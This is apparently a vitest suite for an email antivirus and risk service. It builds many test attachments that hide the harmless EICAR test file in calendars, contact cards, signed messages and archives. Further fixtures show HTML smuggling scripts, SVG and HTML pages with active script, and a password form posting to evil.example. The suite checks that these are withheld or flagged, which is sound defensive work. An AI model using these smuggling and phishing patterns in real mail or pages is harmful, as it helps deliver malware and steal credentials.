/** A hundred mails that hide a virus, or an attachment that acts when it is opened: none is clean, and honest ones are. */
import { gzipSync } from 'node:zlib'
import { afterAll, describe, expect, it } from 'vitest'
import { createScanner } from '../../shared/antivirus/clamd.ts'
import { scanMessage } from '../../shared/antivirus/scan-message.ts'
import { textsOf } from '../../shared/judge/texts.ts'
import { verdictOf } from '../../shared/judge/verdict.ts'
import { attachmentFiles } from '../../shared/mail/attachment-content.ts'
import { parseMail } from '../../shared/mail/parse.ts'
import { ParserPool } from '../../shared/mail/parser-pool.ts'
import { assess } from '../../shared/risk/assess.ts'
import {
  writeArj,
  writeBzip2,
  writeCabinet,
  writeIso,
  writeLzh,
  writeRar4,
  writeRar5,
  writeSevenZip,
  writeXz,
} from '../support/archive-writer.ts'
import { clamdUrl } from '../support/clamd.ts'
import { eicar } from '../support/eicar.ts'
import { mailText } from '../support/mail-text.ts'
import { riskMessage } from '../support/risk-message.ts'
import { envelopedFileOf, signedFileOf } from '../support/signed-file.ts'
import { writeTar } from '../support/tar-writer.ts'
import { type TnefFields, writeTnef } from '../support/tnef-writer.ts'
import { writeZip } from '../support/zip-writer.ts'

const scanner = createScanner(clamdUrl())
const parser = new ParserPool({ size: 1 })
afterAll(() => parser.close())

interface File {
  filename: string
  type?: string
  content: Uint8Array | string
}

/** What the service makes of a mail: scanned, scored and decided as the stages do it. */
async function judge(raw: Buffer) {
  const mail = await parseMail(raw)
  const files = await attachmentFiles(raw)
  const scan = mail.needsScan
    ? await scanMessage(scanner, raw, await parser.filesToScan(raw), (text, most) =>
        parser.embeddedFiles(text, most),
      )
    : null
  const message = { ...riskMessage(), mail, scan, ...(await textsOf(files, mail)) }
  const { analysis, incomplete } = await assess(message, { llm: null })
  const verdicts = scan === null ? [] : [scan.raw, ...scan.attachments]
  const facts = {
    infected: verdicts.some(({ status }) => status === 'infected'),
    unjudged: false,
    incomplete: incomplete.length > 0 || verdicts.some(({ status }) => status === 'error'),
    cautious: false,
    score: analysis.risk_score,
    policy: null,
  }
  const { verdict } = verdictOf(facts, { withholdAbove: 70, flagAbove: 30 })
  const statuses = verdicts.slice(1).map(({ status }) => status)
  const found = analysis.detections.map(({ method, result }) => `${method}.${result}`)
  return { verdict, statuses, score: analysis.risk_score, found }
}

const attached = (...attachments: File[]) => judge(Buffer.from(mailText({ attachments }), 'latin1'))

const base64 = (content: Uint8Array | string) => Buffer.from(content).toString('base64')
const folded = (text: string, width = 72) => text.replace(new RegExp(`(.{${width}})(?=.)`, 'g'), '$1\r\n ')
const quoted = (content: Uint8Array) =>
  [...content].map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('')
const virus = base64(eicar)
const virusUrl = `data:application/octet-stream;base64,${virus}`

const calendar = (line: string, component = 'VEVENT') =>
  [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    `BEGIN:${component}`,
    'UID:1@a.example',
    'SUMMARY:Meeting',
    line,
    `END:${component}`,
    'END:VCALENDAR',
    '',
  ].join('\r\n')
const card = (line: string, version = '3.0') =>
  ['BEGIN:VCARD', `VERSION:${version}`, 'FN:Ada Example', line, 'TEL:+49 30 1234', 'END:VCARD', ''].join(
    '\r\n',
  )
const ics = (line: string, component?: string): File => ({
  filename: 'invite.ics',
  type: 'text/calendar',
  content: calendar(line, component),
})
const vcf = (line: string, version?: string): File => ({
  filename: 'ada.vcf',
  type: 'text/vcard',
  content: card(line, version),
})

/** A part of a message as S/MIME signs it, with a file in it. */
const part = (content: string, encoding: string) =>
  [
    'Content-Type: multipart/mixed; boundary=x',
    '',
    '--x',
    'Content-Type: text/plain',
    '',
    'Hello',
    '--x',
    'Content-Type: application/octet-stream; name=a.com',
    `Content-Transfer-Encoding: ${encoding}`,
    '',
    content,
    '--x--',
    '',
  ].join('\r\n')
const signed = (content: Uint8Array | string, pieces = false): File => ({
  filename: 'smime.p7m',
  type: 'application/pkcs7-mime; smime-type=signed-data',
  content: signedFileOf(content, { pieces }),
})

const winmail = (fields: TnefFields): File => ({
  filename: 'winmail.dat',
  type: 'application/ms-tnef',
  content: writeTnef(fields),
})

const enclosed: Record<string, File> = {
  'a file of Outlook': winmail({ files: [{ name: 'a.com', content: eicar }] }),
  'a file of Outlook, as an object': winmail({ files: [{ name: 'a.com', content: eicar, within: true }] }),
  'a zip in a file of Outlook': winmail({
    files: [{ name: 'a.zip', content: writeZip([{ name: 'a.com', content: eicar }]) }],
  }),
  'a locked archive in a file of Outlook': winmail({
    files: [{ name: 'a.zst', content: Buffer.concat([Buffer.from('28b52ffd', 'hex'), Buffer.alloc(90, 7)]) }],
  }),
  'a message in a file of Outlook': winmail({
    files: [{ name: 'a', content: writeTnef({ files: [{ name: 'a.com', content: eicar }] }), within: true }],
  }),
  'a file of Outlook in a zip': {
    filename: 'a.zip',
    content: writeZip([
      {
        name: 'winmail.dat',
        content: writeTnef({ files: [{ name: 'a.com', content: eicar, within: true }] }),
      },
    ]),
  },
  'a signed message': signed(part(virus, 'base64')),
  'a signed message, in pieces': signed(part(virus, 'base64'), true),
  'a signed message, quoted-printable': signed(part(quoted(eicar), 'quoted-printable')),
  'a signed message in a signed one': signed(
    `Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(signedFileOf(part(virus, 'base64')))}\r\n`,
  ),
  'a signed message in a zip': {
    filename: 'a.zip',
    content: writeZip([{ name: 'a.p7m', content: signedFileOf(part(virus, 'base64')) }]),
  },
  'a signed file': { ...signed(eicar), filename: 'a.com.p7m' },
  'a signed zip': { ...signed(writeZip([{ name: 'a.com', content: eicar }])), filename: 'a.zip.p7m' },
  'a signed message with a locked zip': signed(
    part(base64(writeZip([{ name: 'a.com', content: eicar, encrypted: true }])), 'base64'),
  ),
  'a calendar': ics(`ATTACH;ENCODING=BASE64;VALUE=BINARY:${virus}`),
  'a calendar, folded': ics(folded(`ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY:${virus}`)),
  'a calendar, folded with tabs': ics(
    folded(`ATTACH;ENCODING=BASE64:${virus}`, 40).replaceAll('\r\n ', '\r\n\t'),
  ),
  'a calendar with line feeds only': {
    ...ics(''),
    content: calendar(folded(`ATTACH;ENCODING=BASE64:${virus}`)).replaceAll('\r\n', '\n'),
  },
  'a calendar in small letters': ics(`attach;encoding=base64;value=binary:${virus}`),
  'a calendar with quoted parameters': ics(`ATTACH;X-FILENAME="a:b;c.pdf";ENCODING="BASE64":${virus}`),
  'a calendar, encoding B': ics(`ATTACH;ENCODING=B:${virus}`),
  'a calendar that says only that it is binary': ics(`ATTACH;VALUE=BINARY:${virus}`),
  'a calendar that says nothing of its encoding': ics(`ATTACH:${virus}`),
  'a calendar without padding': ics(`ATTACH;ENCODING=BASE64:${virus.replace(/=+$/, '')}`),
  'a to-do': ics(`ATTACH;ENCODING=BASE64;VALUE=BINARY:${virus}`, 'VTODO'),
  'a journal': ics(`ATTACH;ENCODING=BASE64;VALUE=BINARY:${virus}`, 'VJOURNAL'),
  'an image of a calendar': ics(`IMAGE;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=image/png:${virus}`),
  'a property of no standard': ics(`X-FILE;ENCODING=BASE64:${virus}`),
  'a data URL of a calendar': ics(`ATTACH:${virusUrl}`),
  'a folded data URL of a calendar': ics(folded(`ATTACH:${virusUrl}`)),
  'a data URL in percent signs': ics(
    `ATTACH:data:application/octet-stream,${encodeURIComponent(eicar.toString('latin1'))}`,
  ),
  'the second attachment of a calendar': ics(
    `ATTACH;ENCODING=BASE64:${base64('an agenda')}\r\nATTACH;ENCODING=BASE64:${virus}`,
  ),
  'a zip in a calendar': ics(
    `ATTACH;ENCODING=BASE64:${base64(writeZip([{ name: 'a.com', content: eicar }]))}`,
  ),
  'a locked zip in a calendar': ics(
    `ATTACH;ENCODING=BASE64:${base64(writeZip([{ name: 'a.com', content: eicar, encrypted: true }]))}`,
  ),
  'a calendar in a calendar': ics(
    `ATTACH;ENCODING=BASE64:${base64(calendar(`ATTACH;ENCODING=BASE64:${virus}`))}`,
  ),
  'a calendar in UTF-16': {
    ...ics(''),
    content: Buffer.from(calendar(`ATTACH;ENCODING=BASE64:${virus}`), 'utf16le'),
  },
  'a calendar that is called a text': {
    filename: 'notes.txt',
    content: calendar(`ATTACH;ENCODING=BASE64:${virus}`),
  },
  'a calendar without a name': {
    filename: '',
    type: 'application/octet-stream',
    content: calendar(`ATTACH;ENCODING=BASE64:${virus}`),
  },
  'a calendar in a zip': {
    filename: 'a.zip',
    content: writeZip([{ name: 'a.ics', content: Buffer.from(calendar(`ATTACH;ENCODING=BASE64:${virus}`)) }]),
  },
  'a calendar in gzip': {
    filename: 'a.ics.gz',
    content: gzipSync(calendar(`ATTACH;ENCODING=BASE64:${virus}`)),
  },
  'a calendar in a tar.gz': {
    filename: 'a.tgz',
    content: gzipSync(
      writeTar([{ name: 'a.ics', content: Buffer.from(calendar(`ATTACH;ENCODING=BASE64:${virus}`)) }]),
    ),
  },
  'a calendar in an attached message': {
    filename: 'a.eml',
    type: 'message/rfc822',
    content: mailText({ attachments: [ics(`ATTACH;ENCODING=BASE64:${virus}`)] }),
  },
  'a photo of a card': vcf(`PHOTO;ENCODING=b;TYPE=JPEG:${virus}`),
  'a folded photo': vcf(folded(`PHOTO;ENCODING=b;TYPE=JPEG:${virus}`)),
  'a photo of an old card': vcf(
    `PHOTO;JPEG;ENCODING=BASE64:\r\n ${virus.match(/.{1,60}/g)!.join('\r\n ')}\r\n`,
    '2.1',
  ),
  'a photo of a sloppy card': vcf(
    `PHOTO;ENCODING=BASE64:\r\n${virus.match(/.{1,60}/g)!.join('\r\n')}\r\n`,
    '2.1',
  ),
  'a photo, encoding without its name': vcf(`PHOTO;BASE64;JPEG:${virus}`, '2.1'),
  'a photo of a new card': vcf(`PHOTO:data:image/jpeg;base64,${virus}`, '4.0'),
  'a logo': vcf(`LOGO;ENCODING=b;TYPE=PNG:${virus}`),
  'a key': vcf(`KEY;ENCODING=b;TYPE=PGP:${virus}`),
  'a sound': vcf(`SOUND;ENCODING=b;TYPE=BASIC:${virus}`),
  'a grouped property': vcf(`item1.PHOTO;ENCODING=b:${virus}`),
  'a quoted-printable property': vcf(`AGENT;ENCODING=QUOTED-PRINTABLE:${quoted(eicar)}`, '2.1'),
  'a quoted-printable property over lines': vcf(
    `AGENT;ENCODING=QUOTED-PRINTABLE:${quoted(eicar).replace(/(.{60})/g, '$1=\r\n')}`,
    '2.1',
  ),
  'a saved page': {
    filename: 'a.mht',
    content: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n${virus}\r\n--x--\r\n`,
  },
  'a data URL of a drawing': {
    filename: 'a.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${virusUrl}"/></svg>`,
  },
  'a string of JSON': { filename: 'a.json', content: JSON.stringify({ file: virus }) },
}

const page = (body: string) => `<!DOCTYPE html><html><body><p>Your invoice</p>${body}</body></html>`
const script = (code: string) => page(`<script>${code}</script>`)
const bytes = [...eicar].join(',')
const click = 'var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="a.zip";a.click();'
const packed = base64('PK\x03\x04'.padEnd(200, 'content of a file '))

/** Each withheld: it builds what it drops. */
const smuggling: Record<string, string> = {
  'atob, Blob and a click': script(
    `var b=new Blob([Uint8Array.from(atob("${packed}"),c=>c.charCodeAt(0))]);${click}`,
  ),
  'an array of numbers': script(`var b=new Blob([new Uint8Array([${bytes}])]);${click}`),
  'characters by code': script(`var s=String.fromCharCode(${bytes});var b=new Blob([s]);${click}`),
  msSaveOrOpenBlob: script(`navigator.msSaveOrOpenBlob(new Blob([atob('${packed}')]),'a.iso')`),
  'a fetched data URL': script(
    `fetch("data:application/zip;base64,${packed}").then(r=>r.blob()).then(b=>{${click}})`,
  ),
  'a link that downloads data': page(
    `<a download="a.zip" href="data:application/zip;base64,${packed}">open</a>`,
  ),
  'a refresh to data': page(`<meta http-equiv="refresh" content="0;url=data:text/html;base64,${packed}">`),
  'a location of data': script(`window.location.href="data:text/html;base64,${packed}"`),
  'a written page': script(`document.write(atob("${packed}"))`),
  'an unescaped page': script(`document.write(unescape("${'%3c%68%31%3e'.repeat(10)}"))`),
  'a page set as inner HTML': script(
    `onload=function(){document.body.innerHTML=decodeURIComponent(escape(atob("${packed}")))}`,
  ),
  'hexadecimal numbers': script(
    `var d=[${[...eicar].map((one) => `0x${one.toString(16)}`).join(',')}];var b=new Blob([new Uint8Array(d)]);${click}`,
  ),
  'names in brackets': script(
    `var b=new Blob([window["atob"]("${packed}")]);var a=document.createElement("a");a.href=URL["createObjectURL"](b);a["download"]="a.js";a["click"]();`,
  ),
  'onload of the body': page('').replace('<body>', `<body onload='document.write(atob("${packed}"))'>`),
  'a drawing that smuggles': `<svg xmlns="http://www.w3.org/2000/svg"><script>var b=new Blob([atob("${packed}")]);${click.replace('document.createElement("a")', 'document.createElementNS("http://www.w3.org/1999/xhtml","a")')}</script></svg>`,
}

const svg = (inner: string, attributes = '') =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${attributes}>${inner}</svg>`

/** Each flagged at least. */
const active: Record<string, File> = {
  'a script of a drawing': {
    filename: 'a.svg',
    type: 'image/svg+xml',
    content: svg('<script>alert(1)</script>'),
  },
  'a script of a drawing by its prefix': {
    filename: 'a.svg',
    content: svg('<x/>')
      .replace('<svg ', '<s:svg xmlns:s="http://www.w3.org/2000/svg" ')
      .replace('<x/>', '<s:script>1</s:script>')
      .replace('</svg>', '</s:svg>'),
  },
  'a drawing that acts when it is loaded': { filename: 'a.svg', content: svg('', ' onload="alert(1)"') },
  'a drawing with a page in it': {
    filename: 'a.svg',
    content: svg('<foreignObject><p>Sign in</p></foreignObject>'),
  },
  'a drawing of elsewhere': {
    filename: 'a.svg',
    content: svg('<image xlink:href="https://evil.example/a.png"/>'),
  },
  'a drawing that uses another': {
    filename: 'a.svg',
    content: svg('<use href="https://evil.example/a.svg#x"/>'),
  },
  'a link of a drawing that runs': {
    filename: 'a.svg',
    content: svg('<a href="javascript:alert(1)"><text>x</text></a>'),
  },
  'an animation that starts': { filename: 'a.svg', content: svg('<animate onbegin="alert(1)"/>') },
  'an entity of a drawing': { filename: 'a.svg', content: `<!DOCTYPE svg [<!ENTITY x "y">]>${svg('&x;')}` },
  'a style sheet of elsewhere': {
    filename: 'a.svg',
    content: svg('<style>@import url(https://evil.example/a.css)</style>'),
  },
  'a packed drawing': { filename: 'a.svgz', content: gzipSync(svg('<script>alert(1)</script>')) },
  'a drawing that is called a picture': {
    filename: 'a.png',
    type: 'image/png',
    content: svg('<script>alert(1)</script>'),
  },
  'a drawing in a zip': {
    filename: 'a.zip',
    content: writeZip([{ name: 'a.svg', content: Buffer.from(svg('<script>1</script>')) }]),
  },
  'a drawing in UTF-16': {
    filename: 'a.svg',
    content: Buffer.from(`\ufeff${svg('<script>1</script>')}`, 'utf16le'),
  },
  'a page with a script': {
    filename: 'a.html',
    type: 'text/html',
    content: script('location="https://evil.example/login"'),
  },
  'a page with a script of elsewhere': {
    filename: 'a.htm',
    content: page('<script src="https://evil.example/a.js"></script>'),
  },
  'a page that leads elsewhere': {
    filename: 'a.html',
    content: page('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  },
  'a page with a frame': {
    filename: 'a.html',
    content: page('<iframe src="https://evil.example"></iframe>'),
  },
  'a page with a form': {
    filename: 'a.html',
    content: page('<form action="https://evil.example"><input type="password"></form>'),
  },
  'a page that acts on an error': { filename: 'a.xhtml', content: page('<img src="x" onerror="alert(1)">') },
}

const content = Buffer.from('The content of a file that is long enough to be cut. '.repeat(4))
const kinds: Record<string, Buffer> = {
  '7z': writeSevenZip(content),
  rar: writeRar5(content),
  r4: writeRar4(content),
  cab: writeCabinet(content),
  arj: writeArj(content),
  lzh: writeLzh(content),
  iso: writeIso(),
  xz: writeXz(),
  bz2: writeBzip2(),
  zip: writeZip([{ name: 'a.txt', content }]),
  gz: gzipSync(content),
  tar: writeTar([{ name: 'a.txt', content: Buffer.concat([content, content, content]) }]),
}
const nameOf = (kind: string) => `a.${kind === 'r4' ? 'rar' : kind}`
const flipped = (archive: Buffer, at: number) => {
  const changed = Buffer.from(archive)
  changed[at] = changed[at]! ^ 0xff
  return changed
}
const damaged: Record<string, File> = {
  ...Object.fromEntries(
    Object.entries(kinds).map(([kind, whole]) => [
      `${kind}, cut`,
      { filename: nameOf(kind), content: whole.subarray(0, Math.floor(whole.length * 0.4)) },
    ]),
  ),
  ...Object.fromEntries(
    Object.entries(kinds)
      // What stands before an image's first sector is nobody's.
      .filter(([kind]) => kind !== 'iso')
      .map(([kind, whole]) => [
        `${kind}, without its beginning`,
        { filename: nameOf(kind), content: Buffer.concat([Buffer.alloc(16, 0xee), whole.subarray(16)]) },
      ]),
  ),
  '7z, a byte of the header': { filename: 'a.7z', content: flipped(kinds['7z']!, kinds['7z']!.length - 9) },
  'rar, a byte of a file': { filename: 'a.rar', content: flipped(kinds.rar!, 60) },
  'old rar, a byte of a file': { filename: 'a.rar', content: flipped(kinds.r4!, 80) },
  'cab, a byte of a block': { filename: 'a.cab', content: flipped(kinds.cab!, kinds.cab!.length - 9) },
  'zip, a byte of the directory': { filename: 'a.zip', content: flipped(kinds.zip!, kinds.zip!.length - 73) },
  'a 7z that has no ending in its name': { filename: 'a', content: kinds['7z']!.subarray(0, 60) },
  'a 7z in a zip': {
    filename: 'a.zip',
    content: writeZip([{ name: 'a.7z', content: kinds['7z']!.subarray(0, 60) }]),
  },
  ACE: {
    filename: 'a.ace',
    content: Buffer.concat([
      Buffer.from('0000310000009002', 'hex').subarray(0, 7),
      Buffer.from('**ACE**'),
      content,
    ]),
  },
  zstd: { filename: 'a.zst', content: Buffer.concat([Buffer.from('28b52ffd', 'hex'), content]) },
  'no archive at all': {
    filename: 'a.rar',
    content: Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 7919) % 256)),
  },
}

const ole = (...parts: Uint8Array[]) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), ...parts, Buffer.alloc(512)])
const pdf = (trailer: string) =>
  `%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Size 2/Root 1 0 R${trailer}>>\n%%EOF\n`
const word = Buffer.alloc(512)
word.set([0xec, 0xa5], 0)
word.set([0x00, 0x01], 10)
const sheet = Buffer.concat([
  Buffer.from('0908100000060500', 'hex'),
  Buffer.alloc(12),
  Buffer.from('2f000400', 'hex'),
  Buffer.alloc(500),
])
const locked: Record<string, File> = {
  'a PDF': { filename: 'a.pdf', content: pdf('/Encrypt 5 0 R') },
  'a PDF with the dictionary in its trailer': {
    filename: 'a.pdf',
    content: pdf('/Encrypt<</Filter/Standard/V 2>>'),
  },
  'a PDF that writes it otherwise': { filename: 'a.pdf', content: pdf('/#45ncrypt 5 0 R') },
  'a PDF behind other bytes': { filename: 'a.bin', content: `\n\n${pdf('/Encrypt 5 0 R')}` },
  'an Office file': { filename: 'a.docx', content: ole(Buffer.from('EncryptedPackage', 'utf16le')) },
  'an old Word file': { filename: 'a.doc', content: ole(word) },
  'an old Excel file': { filename: 'a.xls', content: ole(sheet) },
  'a zip': { filename: 'a.zip', content: writeZip([{ name: 'a.com', content: eicar, encrypted: true }]) },
  'a 7z': { filename: 'a.7z', content: writeSevenZip(content, { aes: true }) },
  'an old RAR': { filename: 'a.rar', content: writeRar4(content, { encrypted: true }) },
  'a RAR': { filename: 'a.rar', content: writeRar5(content, { encrypted: true }) },
  'a RAR, its names too': { filename: 'a.rar', content: writeRar5(content, { sealed: true }) },
  'an ARJ': { filename: 'a.arj', content: writeArj(content, { encrypted: true }) },
  'a message of S/MIME': { filename: 'smime.p7m', content: envelopedFileOf(content) },
  'a message of OpenPGP': {
    filename: 'encrypted.asc',
    content: `-----BEGIN PGP MESSAGE-----\n\n${base64(content)}\n-----END PGP MESSAGE-----\n`,
  },
  'a PDF in a zip': {
    filename: 'a.zip',
    content: writeZip([{ name: 'a.pdf', content: Buffer.from(pdf('/Encrypt 5 0 R')) }]),
  },
}

describe('a mail that hides something', () => {
  it.each(Object.entries(enclosed))(
    'in %s is withheld, or flagged where it is locked',
    async (name, file) => {
      const { verdict, statuses } = await attached(file)
      expect([verdict, statuses[0]]).toEqual(
        name.includes('locked') ? ['flagged', 'error'] : ['withheld', 'infected'],
      )
    },
  )

  it('in a calendar that is the whole message, or another form of it, is withheld', async () => {
    const whole = calendar(`ATTACH;ENCODING=BASE64:${virus}`)
    const head = 'From: a@b.example\r\nSubject: Meeting\r\nMIME-Version: 1.0\r\n'
    const alone = `${head}Content-Type: text/calendar; method=REQUEST\r\n\r\n${whole}`
    const other = `${head}Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nHello\r\n--x\r\nContent-Type: text/calendar\r\n\r\n${whole}\r\n--x--\r\n`
    for (const raw of [alone, other]) expect((await judge(Buffer.from(raw))).verdict).toBe('withheld')
  })

  it.each(Object.entries(smuggling))('builds a file: %s, and is withheld', async (name, source) => {
    for (const filename of [name.includes('drawing') ? 'a.svg' : 'invoice.html', 'invoice.dat'])
      expect(await attached({ filename, content: source })).toMatchObject({
        verdict: 'withheld',
        found: expect.arrayContaining(['attachments.smuggling_page']),
      })
  })

  it.each(Object.entries(active))('acts: %s, and is flagged at least', async (_, file) => {
    expect((await attached(file)).verdict).not.toBe('clean')
  })

  it.each(Object.entries(damaged))(
    'is a damaged or unreadable archive: %s, which is an error',
    async (_, file) => {
      expect(await attached(file)).toMatchObject({ verdict: 'flagged', statuses: ['error'] })
    },
  )

  it.each(Object.entries(locked))('is locked: %s, which is an error', async (_, file) => {
    const { verdict, statuses } = await attached(file)
    expect(statuses).toEqual(['error'])
    expect(verdict).not.toBe('clean')
  })

  it('is one of a hundred and more', () => {
    const all = [enclosed, smuggling, active, damaged, locked].map((cases) => Object.keys(cases).length)
    expect(all.reduce((sum, count) => sum + count)).toBeGreaterThan(100)
  })
})

const zipped = base64(writeZip([{ name: 'a.com', content: eicar }]))
/** URLs of a mail's own HTML, in the attribute of a link. */
const ownUrls: Record<string, string> = {
  'a file': `data:application/octet-stream;base64,${virus}`,
  'an archive': `data:application/zip;base64,${zipped}`,
  'letters by number': `&#100;ata&#x3A;application/zip;base64,${zipped}`,
  'names for characters': `d&Tab;ata&colon;application/zip&semi;base64&comma;${zipped}`,
  'line ends in it': `da\r\nta:application/zip;base64,${folded(zipped, 20)}`,
  'white space about its encoding': `DATA:application/zip;x=1 ; Base64 ,${zipped}`,
  'no encoding': `data:application/octet-stream,${encodeURIComponent(eicar.toString('latin1'))}`,
  'a page in it': `data:text/html;base64,${base64(`<a href="data:application/zip;base64,${zipped}">`)}`,
}

describe('a URL of the mail’s own HTML', () => {
  const own = (html: string) => {
    const encoded = base64(html).replace(/(.{76})/g, '$1\r\n')
    const fields = ['From: ada@sender.example', 'To: agent@inbox.localhost', 'Subject: Order 1815']
    const mime = ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8']
    const head = [...fields, ...mime, 'Content-Transfer-Encoding: base64']
    return judge(Buffer.from(`${head.join('\r\n')}\r\n\r\n${encoded}\r\n`))
  }

  it.each(Object.entries(ownUrls))('holds a virus, with %s', async (_, url) => {
    expect(await own(`<p>Your order.</p><a href='${url}'>open</a>`)).toMatchObject({
      verdict: 'withheld',
      score: 100,
    })
  })

  it('holds a locked archive, which is an error', async () => {
    const url = `data:application/zip;base64,${base64(writeZip([{ name: 'a', content: eicar, encrypted: true }]))}`
    expect((await own(`<a href="${url}">open</a>`)).verdict).not.toBe('clean')
  })

  it('holds a picture, or is none, and the mail is clean', async () => {
    const picture = `<img alt="logo" src="data:image/jpeg;base64,${base64(jpeg)}">`
    for (const html of [picture, '<p>The data: they are attached, &amp; more &#8217;</p>'])
      expect((await own(`<p>Your order has left our house this morning.</p>${html}`)).verdict).toBe('clean')
  })
})

const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.alloc(300, 0x5a)])
const honest: Record<string, File> = {
  'an invitation with an agenda': ics(
    folded(`ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY:${base64(pdf(''))}`),
  ),
  'an invitation with a link': ics('ATTACH:https://files.example/agenda.pdf'),
  'a card with a photo': vcf(folded(`PHOTO;ENCODING=b;TYPE=JPEG:${base64(jpeg)}`)),
  'a plain PDF': {
    filename: 'a.pdf',
    type: 'application/pdf',
    content: pdf('/Info<</EncryptMetadata true>>'),
  },
  'an Office file': {
    filename: 'a.xls',
    content: ole(Buffer.from('0908100000060500', 'hex'), Buffer.alloc(500)),
  },
  'a text that is called packed': { filename: 'notes.gz', content: 'It was unpacked on the way.' },
  ...Object.fromEntries(
    Object.entries(kinds)
      .filter(([kind]) => kind !== 'iso')
      .map(([kind, whole]) => [`a whole ${kind}`, { filename: nameOf(kind), content: whole }]),
  ),
}

describe('an honest mail', () => {
  it.each(Object.entries(honest))('with %s is clean', async (_, file) => {
    expect(await attached(file)).toMatchObject({ verdict: 'clean', statuses: ['clean'] })
  })

  it('with a logo, a newsletter or a plain table has no finding but that it is a page', async () => {
    const logo = svg(
      `<defs><linearGradient id="g"/></defs><path fill="url(#g)" d="M0 0h9v9z"/><use xlink:href="#g"/><image href="data:image/png;base64,${base64(jpeg)}"/>`,
    )
    const letter = page(
      '<table><tr><td><img src="https://shop.example/a.png" alt="shoes"></td><td><a href="https://shop.example">Download our catalogue</a></td></tr></table><style>td{color:red}</style>',
    )
    for (const file of [
      { filename: 'logo.svg', type: 'image/svg+xml', content: logo },
      { filename: 'letter.html', type: 'text/html', content: letter },
    ]) {
      const { verdict, found } = await attached(file)
      expect(found.filter((name) => name.startsWith('attachments.'))).toEqual(['attachments.html_attachment'])
      expect(verdict).toBe('clean')
    }
  })
})
